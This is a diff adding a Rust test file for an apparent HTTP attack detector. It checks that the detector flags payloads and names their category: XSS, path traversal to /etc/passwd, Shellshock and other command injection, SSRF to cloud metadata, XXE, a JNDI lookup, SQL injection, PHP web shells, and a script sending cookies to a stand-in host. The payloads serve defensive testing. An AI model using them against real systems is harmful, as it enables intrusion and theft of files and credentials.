@@ -1,0 +1,127 @@
+//! Attacks of every category, look-alikes that are none, clients, and bodies that are broken.
+
+use crate::{
+    inference, patrols,
+    score::score_rows,
+    features::api::raw_http,
+};
+use magsentinel_bus_schema::{Fields, Level};
+use serde_json::{Value, json};
+
+fn fields(value: Value) -> Fields {
+    Fields(value.as_object().cloned().unwrap_or_default())
+}
+
+fn score(rows: Vec<Value>) -> Vec<Value> {
+    let (config, inference) = (patrols::Config::default(), inference::Config::default());
+    let rows = rows.into_iter().map(fields);
+    let scored = score_rows("api-watch", &config, &inference, rows).unwrap();
+    scored.map(|row| row["scored"].clone()).collect()
+}
+
+fn level(scored: &Value) -> Level {
+    Level::from_token(scored["level"].as_str().unwrap_or_default()).unwrap_or(Level::None)
+}
+
+fn query(text: &str) -> Value {
+    json!({"method": "GET", "path": "/a", "query": format!("q={text}")})
+}
+
+#[test]
+fn attacks_of_every_category_are_flagged_and_named() {
+    for (body, category) in [
+        (query("%3Cscript%3Ealert(1)%3C/script%3E"), "xss"),
+        (query("\"><img src=x onerror=alert`1`>"), "xss"),
+        (json!({"path": "/static/../../../../etc/passwd"}), "path_traversal"),
+        (query("..%252f..%252f..%252fetc%252fpasswd"), "path_traversal"),
+        (query("php://filter/convert.base64-encode/resource=index"), "file_inclusion"),
+        (json!({"path": "/", "body": "host=127.0.0.1%3Bcat+/etc/passwd"}), "command_injection"),
+        (json!({"path": "/", "headers": {"User-Agent": "() { :;}; /bin/bash -c id"}}), "command_injection"),
+        (query("http://169.254.169.254/latest/meta-data/"), "ssrf"),
+        (json!({"path": "/", "body": "<!DOCTYPE a [<!ENTITY x SYSTEM 'file:///etc/passwd'>]><a>&x;</a>"}), "xxe"),
+        (json!({"path": "/", "headers": {"X-Api-Version": "${${lower:j}ndi:ldap://h/a}"}}), "jndi_injection"),
+        (query("{{''.__class__.__mro__[1].__subclasses__()}}"), "template_injection"),
+        (query("1' UNION SELECT name,pass FROM users-- -"), "sql_injection"),
+        (query("1' or '1'='1"), "sql_injection"),
+        (json!({"path": "/", "query": "user[$ne]=x"}), "nosql_injection"),
+        (json!({"path": "/", "body": "{\"user\": {\"$gt\": \"\"}}"}), "nosql_injection"),
+        (query("*)(uid=*))(|(uid=*"), "ldap_injection"),
+        (query("a%0d%0aSet-Cookie:x=1"), "crlf_injection"),
+        (query("<!--#exec cmd=\"id\"-->"), "ssi_injection"),
+        (json!({"path": "/", "body": "{\"@type\":\"com.sun.rowset.JdbcRowSetImpl\",\"dataSourceName\":\"rmi://h/a\"}"}), "deserialization"),
+        (query("O:8:\"Example\":1:{s:1:\"a\";s:2:\"id\";}"), "deserialization"),
+        (json!({"path": "/", "body": "a=<?php eval($_POST['x']);?>"}), "code_injection"),
+        (json!({"path": "/.git/config"}), "sensitive_file"),
+        (json!({"path": "/", "headers": {"User-Agent": "sqlmap/1.7"}}), "scanner"),
+    ] {
+        let scored = score(vec![body.clone()]).remove(0);
+        assert!(level(&scored).is_flagged(), "{body} {scored}");
+        assert_eq!(scored["category"], category, "{body} {scored}");
+        assert!(!scored["techniques"].as_array().unwrap().is_empty());
+        assert!(!scored["reasons"].as_array().unwrap().is_empty());
+    }
+}
+
+#[test]
+fn look_alikes_are_left_alone() {
+    for text in [
+        "O'Brien & Sons", "it's 50% off -- select yours", "rock'n'roll", "a+b=c", "1 or 2 people",
+        "select a table from the union", "<3 you", "C:\\Users\\ada\\notes.txt", "x > 5 and y < 7",
+        "{\"a\": \"b's\", \"n\": [1, 2]}", "https://example.org/?a=1&b=2", "Dear {name},", "$100; $200",
+        "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiI0MiJ9.c2lnbmF0dXJl", "你好，世界", "l'été à Orléans",
+        "name:\"Ada\" AND born:[1800 TO 1900]", "a;b;c", "cats|dogs", "../images/logo.png", "@ada #1",
+        "<p>Hello <b>world</b> &amp; all</p>", "alert the manager", "script for a play", "5' 11\"",
+    ] {
+        let scored = score(vec![json!({"path": "/", "body": {"text": text}})]).remove(0);
+        assert!(!level(&scored).is_flagged(), "{text} {scored}");
+    }
+}
+
+#[test]
+fn padding_does_not_hide_an_attack() {
+    let filler = "An ordinary sentence, with (brackets); and marks. ".repeat(200);
+    let text = format!("{filler}<script>fetch('//h/'+document.cookie)</script>{filler}");
+    let scored = score(vec![json!({"path": "/", "body": {"text": text}})]).remove(0);
+    assert!(level(&scored) >= Level::High, "{scored}");
+    let huge = score(vec![json!({"path": "/", "body": "x' ".repeat(3_500_000)})]).remove(0);
+    assert!(huge.get("error").is_none());
+}
+
+#[test]
+fn a_client_that_misbehaves_is_told_with_its_counter() {
+    let call = |n: i64, path: String, status: u64| json!({"ts": 1_767_605_432 + n, "client": "192.0.2.7",
+        "method": "GET", "path": path, "status": status});
+    let scan = score((0..20).map(|n| call(n, format!("/nothing/{n}/x{n}y"), 404)).collect());
+    let last = scan.last().unwrap();
+    assert!(level(last).is_flagged() && last["category"] == "scan", "{last}");
+    assert!(last["reasons"][0].as_str().unwrap().contains("paths that are not there"), "{last}");
+    let stuffing = (0..20).map(|n| json!({"ts": 1_767_605_432 + n * 2, "client": "192.0.2.8",
+        "method": "POST", "path": "/api/login", "status": 401,
+        "body": format!("username=u{n}&password=x")}));
+    let stuffing = score(stuffing.collect());
+    assert_eq!(stuffing.last().unwrap()["category"], "credential_stuffing");
+    let numbers = score((0..20).map(|n| call(n * 4, format!("/api/users/{n}"), 200)).collect());
+    assert_eq!(numbers.last().unwrap()["category"], "id_enumeration");
+    let office = score((0..60).map(|n| call(n * 3, format!("/page-{}", n % 7), 200)).collect());
+    assert!(office.iter().all(|row| !level(row).is_flagged()));
+}
+
+#[test]
+fn broken_bodies_are_told_and_others_go_on() {
+    let rows = score(vec![
+        json!({"status": 200}), json!({"path": 7}), json!({"path": "/", "status": "many"}),
+        json!({"path": "/", "status": -1, "body_size": 1e300, "ts": 1_767_605_432, "client": "c"}),
+        json!({"path": "/", "ts": 5, "client": "c", "headers": [1, 2], "body": [null, true]}),
+        json!({"path": "/", "ts": "never"}), json!({"path": "/%", "query": "%%%=&&=%zz", "headers": {"a": null}}),
+    ]);
+    let wrong: Vec<bool> = rows.iter().map(|row| row.get("error").is_some()).collect();
+    assert_eq!(wrong, [true, true, false, false, false, true, false]);
+}
+
+#[test]
+fn a_raw_request_is_scored_like_its_body() {
+    let raw = "POST /upload?x=1 HTTP/1.1\r\nHost: h\r\nContent-Type: multipart/form-data; boundary=b\r\n\r\n\
+        --b\r\nContent-Disposition: form-data; name=\"f\"; filename=\"a.php\"\r\n\r\n<?php system($_GET['c']);?>\r\n--b--\r\n";
+    let scored = score(vec![Value::Object(raw_http(raw).0)]).remove(0);
+    assert!(level(&scored) >= Level::High, "{scored}");
+}
